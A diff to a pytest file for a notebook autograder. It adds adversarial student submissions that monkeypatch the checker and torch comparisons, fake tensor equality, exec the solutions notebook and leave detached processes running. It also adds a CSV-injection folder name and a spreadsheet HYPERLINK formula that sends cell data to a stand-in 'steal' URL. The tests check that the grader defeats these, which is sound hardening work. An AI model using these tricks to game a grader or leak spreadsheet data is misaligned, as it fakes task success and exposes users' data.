@@ -114,7 +114,8 @@ def test_students_are_named_by_file_with_student_file(tmp_path):
 
 
 @pytest.mark.parametrize("case", ["missing path", "not a notebook", "empty folder", "csv in a missing folder",
-                                  "csv is a folder", "csv exists", "same chapter twice", "bad timeout", "bad jobs"])
+                                  "csv is a folder", "csv exists", "same chapter twice", "bad timeout", "nan timeout",
+                                  "bad jobs"])
 def test_bad_input_is_one_line_before_any_work(case, tmp_path, capsys):
     subs = tmp_path / "subs"
     write_notebook(subs / "amy" / "01_attention_and_kv_cache.ipynb", "import torch")
@@ -129,6 +130,7 @@ def test_bad_input_is_one_line_before_any_work(case, tmp_path, capsys):
         "csv exists": [str(subs), "--csv", str(existing)],
         "same chapter twice": [str(subs), str(write_notebook(subs / "amy" / "copy_01_x.ipynb", "import torch"))],
         "bad timeout": [str(subs), "--timeout", "0"],
+        "nan timeout": [str(subs), "--check-timeout", "nan"],
         "bad jobs": [str(subs), "--jobs", "0"],
     }[case]
     (tmp_path / "empty").mkdir()
@@ -145,6 +147,110 @@ def test_bad_input_is_one_line_before_any_work(case, tmp_path, capsys):
     expected = {"missing path": "no such file or folder", "not a notebook": "not a notebook (.ipynb)",
                 "empty folder": "no .ipynb file", "csv in a missing folder": "does not exist",
                 "csv is a folder": "that is a folder", "csv exists": "pass --overwrite",
-                "same chapter twice": "two chapter-1 notebooks", "bad timeout": "must be > 0",
+                "same chapter twice": "two chapter-1 notebooks",
+                "bad timeout": "must be a finite number of seconds > 0",
+                "nan timeout": "--check-timeout nan: must be a finite",
                 "bad jobs": "must be at least 1"}[case]
     assert expected in lines[0]
+
+
+PATCHER = [
+    "import torch\nimport exercises\nfrom exercises import Result",
+    # replace the checker and torch's comparisons in the kernel: neither is the grader's any more
+    "exercises.run_check = lambda ex, answer, *a, **k: Result(ex.id, 'PASS', ex.points, ex.points)\n"
+    "torch.allclose = lambda *a, **k: True\ntorch.equal = lambda *a, **k: True",
+    "def my_causal_mask(T, S):\n    return torch.zeros(T, S, dtype=torch.bool)",
+    # a tensor that says it equals anything: reaches the grader as a plain tensor
+    "class Always(torch.Tensor):\n"
+    "    @classmethod\n"
+    "    def __torch_function__(cls, func, types, args=(), kwargs=None):\n"
+    "        if func in (torch.allclose, torch.equal): return True\n"
+    "        return super().__torch_function__(func, types, args, kwargs or {})\n"
+    "def gqa_decode_step(q, k_cache, v_cache):\n"
+    "    return torch.zeros(q.shape[0], q.shape[1], v_cache.shape[-1]).as_subclass(Always)",
+    "for eid in ('1.1', '1.2', '1.3'):\n    exercises.check_exercise(eid, lambda *a: None)",
+]
+COPIER = [
+    # exec the solutions notebook from wherever a kernel would find it next to the library it imports
+    "import json\nfrom pathlib import Path\nimport exercises\n"
+    "places = [Path(exercises.__file__).resolve().parents[1] / 'notebooks' / 'solutions', Path.cwd() / 'solutions']\n"
+    "found = [p for folder in places for p in sorted(folder.glob('01_*.ipynb'))]\n"
+    "for nb in found:\n"
+    "    for cell in json.loads(nb.read_text())['cells']:\n"
+    "        if cell['cell_type'] == 'code' and 'check_exercise' not in ''.join(cell['source']):\n"
+    "            try:\n                exec(''.join(cell['source']))\n"
+    "            except Exception:\n                pass\n"
+    "print('solutions found:', found)",
+]
+
+
+def spawner(pid_file):
+    """Starts a sleep in its own session (out of the kernel's process group) and one in the group, and writes an
+    answer that is a spreadsheet formula."""
+    return ["import subprocess",
+            f"a = subprocess.Popen(['sleep', '300'], start_new_session=True)\n"
+            f"b = subprocess.Popen(['sleep', '301'])\nopen({str(pid_file)!r}, 'w').write(f'{{a.pid}} {{b.pid}}')",
+            'answer_1_4 = \'=HYPERLINK("http://example.com/steal?"&A1, "click")\'']
+
+
+def alive(pid: int) -> bool:
+    try:
+        with open(f"/proc/{pid}/status") as handle:
+            return "\nState:\tZ" not in handle.read()          # a zombie has ended (only not yet reaped)
+    except FileNotFoundError:
+        return False
+
+
+def test_verdicts_are_the_graders_a_submission_cannot_change_them(tmp_path):
+    """A notebook that patches run_check, the grader's hook and torch in its kernel gets no points; one that execs
+    the solutions notebook finds none (its kernel runs in a scratch copy without them); processes a notebook
+    starts, also in a new session, do not outlive the grading; a written answer reaches the CSV as text."""
+    subs = tmp_path / "subs"
+    pid_file = tmp_path / "pids"
+    write_notebook(subs / "patcher" / "01_attention_and_kv_cache.ipynb", *PATCHER)
+    write_notebook(subs / "copier" / "01_attention_and_kv_cache.ipynb", *COPIER)
+    write_notebook(subs / "=cmd" / "01_attention_and_kv_cache.ipynb", *spawner(pid_file))
+    out = tmp_path / "grades.csv"
+    assert main([str(subs), "--csv", str(out), "--timeout", "60", "--check-timeout", "20", "--jobs", "2"]) == 0
+    rows = read_rows(out)
+    for eid in ("1.1", "1.2", "1.3"):
+        assert rows["patcher", eid]["status"] == "FAIL" and rows["patcher", eid]["points"] == "0", rows["patcher", eid]
+    assert rows["patcher", "total"]["points"] == "0"
+    assert "raised" not in rows["patcher", "total"]["notes"]                  # its cells all ran: the patches were in
+    assert rows["copier", "total"]["points"] == "0"
+    assert all(rows["copier", e]["status"] == "FAIL" for e in ("1.1", "1.2", "1.3"))
+    assert "raised" not in rows["copier", "total"]["notes"]
+
+    # the student folder "=cmd" and the formula answer are text in every spreadsheet
+    assert ("'=cmd", "1.4") in rows and rows["'=cmd", "1.4"]["answer"].startswith("'=HYPERLINK(")
+    pids = [int(p) for p in pid_file.read_text().split()]
+    assert len(pids) == 2
+    deadline = time.monotonic() + 10
+    while any(alive(p) for p in pids) and time.monotonic() < deadline:
+        time.sleep(0.1)
+    assert not any(alive(p) for p in pids), "a process the notebook started outlived the grading"
+
+
+def test_the_exchange_loads_data_only_and_refuses_links_and_oversized_replies(tmp_path, monkeypatch):
+    from exercises import exchange
+
+    class Sneaky(str):
+        def __eq__(self, other):
+            return True
+
+    reply = tmp_path / "reply.pt"
+    exchange.write({"returned": exchange.portable((Sneaky("x"), [1, 2.5, True], {"k": None}))}, reply)
+    value = exchange.read(reply)["returned"]
+    assert type(value[0]) is str and value[0] != "y" and value[1:] == ([1, 2.5, True], {"k": None})
+    link = tmp_path / "link.pt"
+    link.symlink_to(reply)
+    with pytest.raises(OSError):
+        exchange.read(link)
+    monkeypatch.setattr(exchange, "MAX_REPLY_BYTES", 10)
+    with pytest.raises(ValueError, match="over"):
+        exchange.read(reply)
+    assert exchange.read(tmp_path / "none.pt") is None
+    err = exchange.rebuild_exception(exchange.describe_exception(SystemExit("stop the grader")))
+    assert isinstance(err, Exception)                                         # a student cannot end the grader
+    err = exchange.rebuild_exception(exchange.describe_exception(type("MyError", (ValueError,), {})("no")))
+    assert isinstance(err, ValueError) and type(err).__name__ == "MyError" and str(err) == "no"
